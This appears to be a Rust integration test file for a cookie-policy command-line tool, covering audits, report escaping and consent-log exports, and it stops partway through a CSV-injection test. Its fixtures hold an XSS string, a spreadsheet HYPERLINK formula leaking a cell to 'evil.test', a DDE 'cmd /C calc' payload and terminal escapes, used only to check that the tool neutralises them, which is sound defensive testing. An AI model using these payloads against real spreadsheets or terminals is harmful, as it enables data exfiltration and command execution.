//! The `cookie-policy` binary, run as a user runs it: exit codes, messages,
//! and the derive's diagnostics as rustc printed them.

#![allow(
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a failed test panics"
)]

use std::path::Path;
use std::process::Command;

use crate::common::{
    SHOP_HAR, SHOP_POLICY, audit_shop, edited_shop_har, json, run, text, ui_cases, ui_tests,
    workspace,
};

/// The lines of `text`, trimmed, blank ones dropped: rustc indents the
/// derive's message under its own `error:` line.
fn lines(text: &str) -> Vec<&str> {
    text.lines()
        .map(str::trim)
        .filter(|line| !line.is_empty())
        .collect()
}

#[test]
fn help_lists_every_command_and_exits_0() {
    let output = run(&workspace(), &["--help"]);
    assert_eq!(output.status.code(), Some(0));
    let help = text(&output.stdout);
    for command in ["check", "render", "audit"] {
        assert!(help.contains(command), "{help}");
    }
}

#[test]
fn bad_usage_exits_2_with_a_message() {
    let output = run(&workspace(), &["frobnicate"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output.stderr).contains("unrecognized subcommand 'frobnicate'"));
}

#[test]
fn a_good_policy_checks_clean_and_exits_0() {
    let output = run(&workspace(), &["check", "cookie-policy/policy.toml"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert_eq!(
        text(&output.stdout),
        "cookie-policy/policy.toml: 4 cookies, 1 provider, no mistakes\n"
    );
}

#[test]
fn a_missing_policy_exits_2_and_says_what_to_give() {
    let output = run(&workspace(), &["check", "no/such/policy.toml"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = text(&output.stderr);
    assert!(
        stderr.starts_with("error: cannot read the policy file `no/such/policy.toml`"),
        "{stderr}"
    );
    assert!(
        stderr.contains("help: give the path of a policy.toml"),
        "{stderr}"
    );
}

/// A policy file too big to be one is refused by its size, before it is
/// read: a sparse file of 64 GiB, which reading would exhaust memory on,
/// is a mistake at once (exit 1), with the derive's message.
#[test]
fn a_huge_policy_is_refused_before_it_is_read() {
    let dir = std::env::temp_dir().join(format!("cookie-policy-huge-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
    std::fs::File::create(dir.join("policy.toml"))
        .and_then(|file| file.set_len(64 << 30))
        .unwrap_or_else(|e| panic!("{e}"));
    let output = run(&dir, &["check", "policy.toml"]);
    let _ = std::fs::remove_dir_all(&dir);
    let stderr = text(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("the policy file `policy.toml` is 68719476736 bytes; a policy file may hold at most 16777216"),
        "{stderr}"
    );
    assert!(stderr.contains("help: split the policy"), "{stderr}");
}

/// Every policy of the compile-fail tests: `check` exits 1 and prints the
/// message rustc printed for the derive (trybuild's recorded `.stderr`),
/// line for line.
#[test]
fn check_prints_what_the_derive_prints() {
    let mut checked = 0;
    for case in ui_cases() {
        let (stem, recorded) = (&case.stem, &case.recorded);
        // The derive's messages: each `error:` block up to rustc's pointer
        // at the Rust attribute (` --> ui/<test>.rs`).
        let rust_file = format!("--> ui/{stem}.rs");
        let mut expected: Vec<&str> = Vec::new();
        let mut in_block = true;
        for line in lines(recorded) {
            if line.starts_with("error") {
                in_block = true;
            }
            if line.starts_with(&rust_file) {
                in_block = false;
            }
            if in_block {
                expected.push(line);
            }
        }
        let output = run(&ui_tests(), &["check", &case.policy]);
        let stderr = text(&output.stderr);
        if !case.mistake_in_policy() {
            // The mistake is in the Rust code, not in the policy.
            assert_eq!(output.status.code(), Some(0), "{stem}: {stderr}");
            continue;
        }
        assert_eq!(output.status.code(), Some(1), "{stem}: {stderr}");
        let printed = lines(&stderr);
        for line in &expected {
            assert!(
                printed.contains(line),
                "{stem}: rustc printed `{line}`, check did not:\n{stderr}"
            );
        }
        checked += 1;
    }
    assert!(checked >= 10, "only {checked} policies compared");
}

/// The README's example output is what the command prints.
#[test]
fn the_readme_shows_real_output() {
    let readme = std::fs::read_to_string(workspace().join("README.md"))
        .unwrap_or_else(|error| panic!("README.md: {error}"));
    let after = readme
        .split_once("On a policy with a mistake it prints what")
        .map(|(_, after)| after)
        .unwrap_or_else(|| panic!("the README's CLI example is gone"));
    let shown = after
        .split_once("```text\n")
        .and_then(|(_, block)| block.split_once("```"))
        .map(|(block, _)| block)
        .unwrap_or_else(|| panic!("no text block after the CLI example"));
    let output = run(
        &workspace(),
        &["check", "ui-tests/ui/duplicate_cookie.toml"],
    );
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(text(&output.stderr), shown);
}

/// `render`'s bad input: each is exit 2 with what to do.
#[test]
fn render_refuses_bad_input_with_exit_2() {
    let root = workspace();
    let cases: [(&[&str], &str); 4] = [
        (
            &[
                "render",
                "cookie-policy/policy.toml",
                "--format",
                "markdown",
                "--lang",
                "de",
            ],
            "error: cannot render cookie-policy/policy.toml: pages are written in `en` and `fr`, not `de`; ask for one of those",
        ),
        (
            &[
                "render",
                "ui-tests/ui/duplicate_cookie.toml",
                "--format",
                "json",
            ],
            "error: duplicate cookie `sessionid`",
        ),
        (
            &["render", "cookie-policy/policy.toml", "--format", "pdf"],
            "error: invalid value 'pdf' for '--format <FORMAT>'",
        ),
        (
            &[
                "render",
                "cookie-policy/policy.toml",
                "--format",
                "json",
                "-o",
                "no/such/dir/x.json",
            ],
            "error: cannot write `no/such/dir/x.json`",
        ),
    ];
    for (args, expected) in cases {
        let output = run(&root, args);
        let stderr = text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.starts_with(expected), "{args:?}: {stderr}");
        assert_eq!(text(&output.stdout), "", "{args:?}");
    }
}

#[derive(cookie_policy::CookiePolicy)]
#[cookie_policy(path = "tests/fixtures/audit-shop.toml")]
struct AuditShop;

/// The JSON report of `audit --har`, and the exit code.
fn audit_har(policy: &str, har: &str) -> (Option<i32>, serde_json::Value) {
    let output = run(
        &workspace(),
        &[
            "audit", "--policy", policy, "--har", har, "--format", "json",
        ],
    );
    (output.status.code(), json(&output))
}

/// (kind, name, page) of each finding.
fn findings(report: &serde_json::Value) -> Vec<(String, String, String)> {
    let field = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_owned();
    report["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|f| (field(&f["kind"]), field(&f["name"]), field(&f["page"])))
        .collect()
}

#[test]
fn a_har_recording_is_audited_without_a_browser() {
    let (code, report) = audit_har(SHOP_POLICY, SHOP_HAR);
    assert_eq!(code, Some(1));
    assert_eq!(report["format"], 1);
    assert_eq!(report["site"], "www.shop.test");
    let home = "http://www.shop.test/".to_owned();
    assert_eq!(
        findings(&report),
        [
            (
                "undeclared".into(),
                "_ga".into(),
                "http://www.shop.test/about".into()
            ),
            ("without_consent".into(), "ad_id".into(), home),
            ("never_seen".into(), "_pk_id.*".into(), String::new()),
            ("never_seen".into(), "consent".into(), String::new()),
        ]
    );
    assert_eq!(report["findings"][0]["passes"], serde_json::json!(["har"]));
    assert_eq!(
        report["findings"][1]["source"],
        "Set-Cookie from http://ads.tracker.test/frame"
    );
}

/// A recording whose requests carry the consent cookie is judged under
/// that consent: advertising accepted, the advertiser's cookie is fine.
#[test]
fn a_har_is_judged_under_the_consent_it_carries() {
    use cookie_policy::{Category, Consent};
    let consent = Consent::necessary_only()
        .grant(Category::Advertising)
        .to_cookie_value::<AuditShop>();
    let path = edited_shop_har("consent", |har| {
        har["log"]["entries"][0]["request"]["cookies"] =
            serde_json::json!([{ "name": "consent", "value": consent }]);
    });
    let (code, report) = audit_har(SHOP_POLICY, path.to_str().unwrap_or_default());
    let _ = std::fs::remove_file(&path);
    assert_eq!(code, Some(1));
    let kinds: Vec<(String, String)> = findings(&report)
        .into_iter()
        .map(|(kind, name, _)| (kind, name))
        .collect();
    assert_eq!(
        kinds,
        [
            ("undeclared".into(), "_ga".into()),
            ("never_seen".into(), "_pk_id.*".into()),
            // Sent, never set, in this recording: cookies a request sends
            // carry no domain or lifetime to judge.
            ("never_seen".into(), "consent".into()),
        ]
    );
    assert_eq!(
        report["passes"][0]["consent"],
        serde_json::json!(["necessary", "advertising"])
    );
}

/// The declaration an undeclared finding offers is paste-ready: appended to
/// the policy, the policy checks clean and the cookie is declared.
#[test]
fn the_offered_declaration_compiles_and_declares_the_cookie() {
    let (_, report) = audit_har(SHOP_POLICY, SHOP_HAR);
    let declaration = report["findings"][0]["declaration"]
        .as_str()
        .unwrap_or_else(|| panic!("no declaration for _ga: {report:#}"));
    let policy = std::fs::read_to_string(workspace().join(SHOP_POLICY)).unwrap_or_default();
    let path =
        std::env::temp_dir().join(format!("cookie-policy-pasted-{}.toml", std::process::id()));
    std::fs::write(&path, format!("{policy}\n{declaration}")).unwrap_or_else(|e| panic!("{e}"));
    let pasted = path.to_str().unwrap_or_default();
    let checked = run(&workspace(), &["check", pasted]);
    assert_eq!(checked.status.code(), Some(0), "{}", text(&checked.stderr));
    let (code, report) = audit_har(pasted, SHOP_HAR);
    let _ = std::fs::remove_file(&path);
    assert!(
        !findings(&report)
            .iter()
            .any(|(kind, ..)| kind == "undeclared"),
        "{report:#}"
    );
    // The advertiser's cookie still has no consent.
    assert_eq!(code, Some(1));
}

/// `audit`'s bad input: each is exit 2 with what to do.
#[test]
fn audit_refuses_bad_input_with_exit_2() {
    let not_a_har = "cookie-policy-cli/tests/fixtures/audit-shop.toml";
    let cases: [(&[&str], &str); 5] = [
        (
            &["audit", "--policy", SHOP_POLICY],
            "error: nothing to audit",
        ),
        (
            &[
                "audit",
                "--policy",
                SHOP_POLICY,
                "--har",
                SHOP_HAR,
                "http://example.com/",
            ],
            "error: give either `--har FILE` or URLs, not both",
        ),
        (
            &["audit", "--policy", SHOP_POLICY, "--har", "no/such.har"],
            "error: cannot read the HAR file `no/such.har`",
        ),
        (
            &["audit", "--policy", SHOP_POLICY, "--har", not_a_har],
            "error: `cookie-policy-cli/tests/fixtures/audit-shop.toml` is not a HAR 1.2 or 1.3 file",
        ),
        (
            &[
                "audit",
                "--policy",
                "ui-tests/ui/duplicate_cookie.toml",
                "--har",
                SHOP_HAR,
            ],
            "error: duplicate cookie `sessionid`",
        ),
    ];
    for (args, expected) in cases {
        let output = run(&workspace(), args);
        let stderr = text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.starts_with(expected), "{args:?}: {stderr}");
    }
    let output = run(
        &workspace(),
        &["audit", "--policy", SHOP_POLICY, "not a url"],
    );
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output.stderr).starts_with("error: `not a url` is not an http or https URL"));
}

/// Without a browser, every check that needs none still runs first (a bad
/// URL is reported as such), and then the error says how to get one. The
/// Chromium named by `CHROME` is taken as is: one that is not there is the
/// error, whatever the `PATH` holds.
#[test]
fn audit_without_chromium_checks_its_input_then_says_what_to_install() {
    let audit = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_cookie-policy"))
            .arg("audit")
            .args(args)
            .current_dir(workspace())
            .env("CHROME", "/nonexistent/chromium")
            .output()
            .unwrap_or_else(|error| panic!("cannot run cookie-policy: {error}"))
    };
    let bad = audit(&["--policy", SHOP_POLICY, "not a url"]);
    assert_eq!(bad.status.code(), Some(2));
    let stderr = text(&bad.stderr);
    assert!(
        stderr.starts_with("error: `not a url` is not an http or https URL"),
        "{stderr}"
    );
    let good = audit(&["--policy", SHOP_POLICY, "http://127.0.0.1:9/"]);
    assert_eq!(good.status.code(), Some(2));
    let stderr = text(&good.stderr);
    assert!(
        stderr.starts_with("error: no Chromium at `/nonexistent/chromium` (CHROME)"),
        "{stderr}"
    );
    assert!(stderr.contains("apt-get install -y chromium"), "{stderr}");
    assert!(stderr.contains("--chromium PATH"), "{stderr}");
    assert!(stderr.contains("--har FILE"), "{stderr}");
}

/// A page title and a cookie name with markup are shown as written in the
/// reports for people: escaped in Markdown (backslashes, a code span
/// fenced longer than the name's backticks) and in HTML.
#[test]
fn markup_in_page_titles_and_cookie_names_is_escaped() {
    let path = edited_shop_har("markup", |har| {
        har["log"]["pages"][0]["title"] = "<script>alert(1)</script> | *shop* `x`".into();
        har["log"]["entries"][0]["response"]["headers"]
            .as_array_mut()
            .unwrap_or_else(|| panic!("no headers"))
            .push(serde_json::json!({ "name": "Set-Cookie", "value": "a<script>|*`b`=1; Path=/" }));
    });
    let report = |format| {
        let output = audit_shop(&path, format);
        assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
        text(&output.stdout)
    };
    let (markdown, html) = (report("markdown"), report("html"));
    let _ = std::fs::remove_file(&path);
    let page = r"\<script\>alert(1)\</script\> \| \*shop\* \`x\`";
    assert!(
        markdown.contains(&format!(
            "| undeclared | `` a<script>\\|*`b` `` | har | {page} | Set-Cookie from http://www.shop.test/ |"
        )),
        "{markdown}"
    );
    assert!(
        markdown.contains(r"### undeclared a\<script\>\|\*\`b\`"),
        "{markdown}"
    );
    // `<script>` only ever inside the code span of the cookie's name.
    assert_eq!(markdown.matches("<script>").count(), 1, "{markdown}");
    assert!(!html.contains("<script>"), "{html}");
    assert!(
        html.contains("<td><code>a&lt;script&gt;|*`b`</code></td>"),
        "{html}"
    );
    assert!(
        html.contains("<td>&lt;script&gt;alert(1)&lt;/script&gt; | *shop* `x`</td>"),
        "{html}"
    );
}

/// The README's example report is what the command prints for the HAR
/// fixture.
#[test]
fn the_readme_shows_a_real_audit_report() {
    let readme = std::fs::read_to_string(workspace().join("README.md")).unwrap_or_default();
    let shown = readme
        .split_once("cookie-policy audit --policy cookie-policy-cli/tests/fixtures/audit-shop.toml --har cookie-policy-cli/tests/fixtures/shop.har\n```\n\nprints:\n\n```text\n")
        .and_then(|(_, rest)| rest.split_once("```"))
        .map(|(block, _)| block)
        .unwrap_or_else(|| panic!("the README's audit example is gone"));
    let output = run(
        &workspace(),
        &["audit", "--policy", SHOP_POLICY, "--har", SHOP_HAR],
    );
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(text(&output.stdout), shown);
}

/// The reports for people: a Markdown table and an HTML page in the policy
/// page's style, each with every finding.
#[test]
fn markdown_and_html_reports_list_every_finding() {
    let har = Path::new(SHOP_HAR);
    let markdown = text(&audit_shop(har, "markdown").stdout);
    assert!(markdown.starts_with("# Cookie audit\n"), "{markdown}");
    assert!(markdown.contains("| undeclared | `_ga` | har | http://www.shop.test/about | Set-Cookie from http://www.shop.test/about |"), "{markdown}");
    assert!(
        markdown.contains("```toml\n[[provider]]\nid = \"google\""),
        "{markdown}"
    );
    let html = text(&audit_shop(har, "html").stdout);
    assert!(html.starts_with("<!DOCTYPE html>"), "{html}");
    assert!(
        html.contains(cookie_policy::publish::STYLESHEET),
        "not the policy page's style"
    );
    for name in [
        "<code>_ga</code>",
        "<code>ad_id</code>",
        "<code>_pk_id.*</code>",
        "<code>consent</code>",
    ] {
        assert!(html.contains(name), "{name} missing: {html}");
    }
}

/// Fills a consent log with three decisions: two of visitor A (one of them
/// a year and a half old), one of visitor B.
/// The two visitors `fill` records.
const AAAA: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const BBBB: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

async fn fill(log: cookie_policy_consent_log::ConsentLog) {
    use cookie_policy::{Category, Consent};
    use cookie_policy_consent_log::{Context, Origin};
    // Visitors as the endpoint identifies them: `aaaa0001…` and `bbbb0002…`.
    let context = |id: &str| Context {
        visitor: Some(cookie_policy_consent_log::visitor::VisitorId::from(
            [match id {
                "aaaa-0001" => 0xaa,
                _ => 0xbb,
            }; 16],
        )),
        consent_id: Some(id.to_owned()),
        language: Some("en".to_owned()),
        page: Some("http://www.shop.test/".to_owned()),
        ..Context::default()
    };
    let all = Consent::necessary_only()
        .grant(Category::Statistical)
        .grant(Category::Advertising);
    let mut old = log.record_of(all, context("aaaa-0001"), Origin::Banner);
    old.time_ms -= 540 * 86_400_000;
    log.store()
        .append(old)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    // The second, with a Global Privacy Control signal.
    log.record(
        Consent::necessary_only(),
        Context {
            gpc: true,
            ..context("aaaa-0001")
        },
        Origin::Banner,
    )
    .await
    .unwrap_or_else(|e| panic!("{e}"));
    log.record(all, context("bbbb-0002"), Origin::Server)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
}

/// A SQLite consent log in `dir`, filled; its path.
fn sqlite_log(dir: &Path) -> String {
    use cookie_policy_consent_log::ConsentLog;
    use cookie_policy_consent_log_sqlite::SqliteStore;
    let _ = std::fs::remove_dir_all(dir);
    std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
    let path = dir.join("consents.sqlite");
    let store = SqliteStore::open(&path).unwrap_or_else(|e| panic!("{e}"));
    let runtime = tokio::runtime::Runtime::new().unwrap_or_else(|e| panic!("{e}"));
    runtime.block_on(fill(ConsentLog::new::<AuditShop>(store)));
    path.to_str().unwrap_or_default().to_owned()
}

/// A PostgreSQL consent log in its own schema, filled; its URL.
/// A log in a schema of its own, `name`: the tests that run together in
/// this process must not drop each other's tables.
fn postgres_log(url: &str, name: &str) -> String {
    use cookie_policy_consent_log::ConsentLog;
    use cookie_policy_consent_log_postgres::PostgresStore;
    let schema = cookie_policy_tests::postgres_schema(name);
    let runtime = tokio::runtime::Runtime::new().unwrap_or_else(|e| panic!("{e}"));
    runtime.block_on(async {
        let pool = cookie_policy_tests::postgres_pool(url, &schema).await;
        let store = PostgresStore::new(pool)
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        fill(ConsentLog::new::<AuditShop>(store)).await;
    });
    cookie_policy_tests::postgres_url_in(url, &schema)
}

#[test]
fn consents_are_exported_shown_and_purged_on_sqlite() {
    let dir = std::env::temp_dir().join(format!("cookie-policy-consents-{}", std::process::id()));
    consents_from_the_command_line(&sqlite_log(&dir));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
#[ignore = "needs PostgreSQL (COOKIE_POLICY_POSTGRES=postgres://...)"]
fn consents_are_exported_shown_and_purged_on_postgres() {
    consents_from_the_command_line(&postgres_log(
        &cookie_policy_tests::postgres_url(),
        "cli_consents",
    ));
}

fn consents_from_the_command_line(log: &str) {
    let root = workspace();

    let csv = run(&root, &["consents", "--log", log, "export"]);
    assert_eq!(csv.status.code(), Some(0), "{}", text(&csv.stderr));
    let csv = text(&csv.stdout);
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(rows.len(), 4, "{csv}");
    assert_eq!(
        rows[0],
        "consent_id,time,accepted,rejected,revision,policy_sha256,language,page,network,user_agent,origin,banner_consent_id,receipt,source"
    );
    assert!(rows[1].ends_with(",choice"), "{csv}");
    assert!(rows[2].ends_with(",gpc"), "{csv}");
    assert!(
        rows[1].starts_with(&format!("{AAAA},"))
            && rows[1].contains(",necessary+statistical+advertising,,"),
        "{csv}"
    );
    assert!(
        rows[2].contains(",necessary,statistical+advertising,"),
        "{csv}"
    );
    assert!(
        rows[3].starts_with(&format!("{BBBB},")) && rows[3].contains(",server,bbbb-0002,"),
        "{csv}"
    );

    // Since a date: the old decision is left out.
    let recent = run(
        &root,
        &[
            "consents",
            "--log",
            log,
            "export",
            "--since",
            "2026-01-01",
            "--format",
            "json",
        ],
    );
    let json: serde_json::Value = serde_json::from_slice(&recent.stdout).unwrap_or_default();
    assert_eq!(json["format"], 1);
    assert_eq!(json["records"].as_array().map(Vec::len), Some(2), "{json}");
    assert_eq!(
        json["records"][0]["rejected"],
        serde_json::json!(["statistical", "advertising"])
    );

    let shown = run(&root, &["consents", "--log", log, "show", AAAA]);
    assert_eq!(shown.status.code(), Some(0));
    let shown = text(&shown.stdout);
    assert!(shown.starts_with("decision 1 of 2: "), "{shown}");
    assert!(
        shown.contains("  accepted: necessary, statistical, advertising\n  rejected: none\n"),
        "{shown}"
    );
    assert!(shown.contains("decision 2 of 2: "), "{shown}");
    assert!(
        shown.contains("  decided by the visitor's choice\n")
            && shown.contains("  decided by a Global Privacy Control signal (source gpc)\n"),
        "{shown}"
    );
    assert!(
        shown.contains(&format!(
            "--- the page shown: revision {}, language en ---\n# Cookie policy",
            <AuditShop as cookie_policy::CookiePolicy>::REVISION
        )),
        "{shown}"
    );

    let missing = run(&root, &["consents", "--log", log, "show", "zzzz"]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(text(&missing.stderr).starts_with("error: no decision with the consent id `zzzz`"));

    let purged = run(&root, &["consents", "--log", log, "purge"]);
    assert_eq!(purged.status.code(), Some(0));
    assert_eq!(
        text(&purged.stdout),
        "1 record older than 396 days deleted\n"
    );
    let after = text(&run(&root, &["consents", "--log", log, "export"]).stdout);
    assert_eq!(after.lines().count(), 3, "{after}");
}

/// docs/consent-log.md's "The command line" block, run line by line on a
/// filled SQLite log named as the doc names it: every command exits 0, the
/// checkpoint one writing the file the verify one reads. The visitor the
/// doc shows is one the log holds.
#[test]
fn the_consent_log_docs_commands_run() {
    let doc = include_str!("../../docs/consent-log.md");
    let blocks = cookie_policy_tests::doc_blocks(doc, "## The command line", "sh");
    let block = blocks.first().unwrap_or_else(|| panic!("no `sh` block"));
    let dir = cookie_policy_tests::scratch_dir("doc-log");
    // The log the doc names, `consents.sqlite` in the directory it runs in.
    let log = sqlite_log(&dir);
    assert!(log.ends_with("/consents.sqlite"), "{log}");
    let mut ran = 0;
    for line in block.lines() {
        let command = line.split('#').next().unwrap_or_default();
        let (command, output) = match command.split_once('>') {
            Some((command, file)) => (command, Some(dir.join(file.trim()))),
            None => (command, None),
        };
        let mut args: Vec<&str> = command.split_whitespace().collect();
        assert_eq!(args.first(), Some(&"cookie-policy"), "{line}");
        args.remove(0);
        // The doc's visitor is one of the log's.
        for arg in &mut args {
            if arg.len() == 32 && arg.bytes().all(|b| b.is_ascii_hexdigit()) {
                *arg = AAAA;
            }
        }
        let result = run(&dir, &args);
        assert_eq!(
            result.status.code(),
            Some(0),
            "{line}: {}",
            text(&result.stderr)
        );
        if let Some(file) = output {
            std::fs::write(file, &result.stdout).unwrap_or_else(|e| panic!("{e}"));
        }
        ran += 1;
    }
    assert_eq!(ran, 5);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn consents_refuse_bad_input_with_exit_2() {
    let dir =
        std::env::temp_dir().join(format!("cookie-policy-consents-bad-{}", std::process::id()));
    let log = sqlite_log(&dir);
    let log = log.as_str();
    let cases: [(&[&str], &str); 3] = [
        (
            &["consents", "--log", "no/such.sqlite", "export"],
            "error: no consent log at `no/such.sqlite`",
        ),
        (
            &["consents", "--log", log, "export", "--since", "yesterday"],
            "error: --since yesterday is not a date: it is neither a day, YYYY-MM-DD, nor a moment, RFC 3339\n  = help: write --since YYYY-MM-DD, for example --since ",
        ),
        (
            &[
                "consents",
                "--log",
                "postgres://nobody@127.0.0.1:1/none",
                "export",
            ],
            "error: the consent log's store failed",
        ),
    ];
    for (args, expected) in cases {
        let output = run(&workspace(), args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        assert!(
            text(&output.stderr).starts_with(expected),
            "{}",
            text(&output.stderr)
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// An impossible day is refused before the log is opened: no database is
/// needed, and the message names the date and what to write.
#[test]
fn an_impossible_day_exits_2_without_a_database() {
    for log in ["no/such.sqlite", "postgres://nobody@127.0.0.1:1/none"] {
        let output = run(
            &workspace(),
            &["consents", "--log", log, "export", "--since", "2026-02-31"],
        );
        assert_eq!(output.status.code(), Some(2), "{}", text(&output.stderr));
        assert_eq!(
            text(&output.stderr),
            "error: --since 2026-02-31 is not a date: February 2026 has 28 days\n  = help: write --since YYYY-MM-DD, for example --since 2026-02-28\n"
        );
        assert_eq!(text(&output.stdout), "");
    }
}

/// A HAR that is not one exits 2 with serde_json's reason, the line and
/// column (`path:line:column`) and what to do; one without the fields HAR
/// makes optional (pages, pageref) is read.
#[test]
fn a_malformed_har_exits_2_with_its_line_and_column() {
    let dir = std::env::temp_dir().join(format!("cookie-policy-har-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
    let cases = [
        (
            "cut.har",
            "{\n  \"log\": {\n    \"entries\": [\n",
            "is not a HAR 1.2 or 1.3 file: EOF while parsing a list\n  --> ",
            ":4:0\n  = help: the file is not JSON, or was cut short;",
        ),
        (
            "no-response.har",
            "{\"log\": {\"entries\": [\n  {\"request\": {\"url\": \"http://a.test/\", \"cookies\": []}}\n]}}",
            "is not a HAR 1.2 or 1.3 file: missing field `response`\n  --> ",
            ":2:55\n  = help: a HAR is a `log` with `entries`",
        ),
    ];
    for (name, content, reason, place) in cases {
        let path = dir.join(name);
        std::fs::write(&path, content).unwrap_or_else(|e| panic!("{e}"));
        let path = path.to_str().unwrap_or_default();
        let output = run(
            &workspace(),
            &["audit", "--policy", SHOP_POLICY, "--har", path],
        );
        let stderr = text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{stderr}");
        assert!(
            stderr.starts_with(&format!("error: `{path}` {reason}{path}{place}")),
            "{stderr}"
        );
    }
    let minimal = dir.join("minimal.har");
    std::fs::write(
        &minimal,
        r#"{"log": {"entries": [{"request": {"url": "http://www.shop.test/", "cookies": []},
            "response": {"headers": [{"name": "Content-Type", "value": "text/html"},
                {"name": "set-cookie", "value": "sessionid=1; Path=/"}]}}]}}"#,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let (code, report) = audit_har(SHOP_POLICY, minimal.to_str().unwrap_or_default());
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(code, Some(0), "{report:#}");
    assert_eq!(report["site"], "www.shop.test");
    assert_eq!(report["cookies"][0]["name"], "sessionid", "{report:#}");
}

/// The text fields of a record that could start a formula, or drive a
/// terminal: each starts with one of OWASP's formula characters.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// A SQLite log of hand-built records (the log's own `record` would cut
/// and check them): one per formula start in every text field, and one
/// whose page and user agent hold terminal escapes.
fn hostile_log(dir: &Path) -> (String, Vec<cookie_policy_consent_log::ConsentRecord>) {
    use cookie_policy::Category;
    use cookie_policy_consent_log::{ConsentRecord, ConsentStore, Origin};
    use cookie_policy_consent_log_sqlite::SqliteStore;
    let _ = std::fs::remove_dir_all(dir);
    std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
    let path = dir.join("consents.sqlite");
    let store = SqliteStore::open(&path).unwrap_or_else(|e| panic!("{e}"));
    let record = |index: u64, start: char| ConsentRecord {
        // A consent id is letters, digits and `-`: only `-` can start one.
        consent_id: if start == '-' {
            format!("-cmd-{index}")
        } else {
            format!("id-{index}")
        },
        time_ms: 1_795_996_800_000 + index,
        accepted: vec![Category::Necessary],
        rejected: vec![Category::Advertising],
        revision: cookie_policy::Revision::new(0x0123_4567_89ab_cdef),
        policy_sha256: "00".repeat(32),
        // A language is a checked tag (`cookie_policy::Language`): no
        // formula or escape can be one.
        language: cookie_policy::Language::EN,
        page: format!("{start}HYPERLINK(\"http://evil.test/?\"&A1,\"shop\")"),
        network: Some(format!("{start}1+1")),
        user_agent: Some(format!("{start}2+5+cmd|' /C calc'!A0, \"quoted\"\r\nnext")),
        origin: Origin::Banner,
        banner_consent_id: Some(format!("{start}3+3")),
        receipt: format!("{start}receipt-{index}"),
        source: cookie_policy_consent_log::Source::Gpc,
    };
    let mut records: Vec<ConsentRecord> = FORMULA_STARTS
        .iter()
        .zip(0..)
        .map(|(&start, index)| record(index, start))
        .collect();
    let mut escapes = record(99, 'x');
    escapes.consent_id = "esc-1".to_owned();
    escapes.page = "http://www.shop.test/\u{1b}[31mred\u{1b}[0m\u{9b}2J".to_owned();
    escapes.user_agent = Some("\u{1b}]0;owned\u{7}\u{7f}".to_owned());
    records.push(escapes);
    let runtime = tokio::runtime::Runtime::new().unwrap_or_else(|e| panic!("{e}"));
    runtime.block_on(async {
        for record in &records {
            store
                .append(record.clone())
                .await
                .unwrap_or_else(|e| panic!("{e}"));
        }
    });
    (path.to_str().unwrap_or_default().to_owned(), records)
}

/// Reads CSV with Python's `csv` module, as a spreadsheet import would;
/// the rows, as JSON.
fn python_csv(csv: &[u8]) -> Vec<Vec<String>> {
    use std::io::Write as _;
    use std::process::Stdio;
    let mut python = Command::new("python3")
        .args([
            "-c",
            "import csv, io, json, sys\n\
             rows = list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline='')))\n\
             json.dump(rows, sys.stdout)",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap_or_else(|error| {
            panic!("cannot run python3 (install Python 3: apt-get install -y python3): {error}")
        });
    python
        .stdin
        .take()
        .unwrap_or_else(|| panic!("no stdin"))
        .write_all(csv)
        .unwrap_or_else(|e| panic!("{e}"));
    let output = python.wait_with_output().unwrap_or_else(|e| panic!("{e}"));
    assert!(output.status.success(), "python3 failed");
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}"))
}

/// OWASP's CSV injection: no cell of an export starts a formula, and each
/// neutralised cell is the field with a `'` before it, read back intact by
/// Python's `csv` module.
#[test]
fn a_csv_export_starts_no_formula() {
    let dir = std::env::temp_dir().join(format!("cookie-policy-csv-{}", std::process::id()));
    let (log, records) = hostile_log(&dir);
    let output = run(&workspace(), &["consents", "--log", &log, "export"]);
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let rows = python_csv(&output.stdout);
    assert_eq!(rows.len(), records.len() + 1, "{rows:?}");
    for row in &rows {
        assert_eq!(row.len(), 14, "{row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
    let neutralised = |field: &str| {
        if field.starts_with(FORMULA_STARTS) {
            format!("'{field}")
        } else {
            field.to_owned()
        }
    };
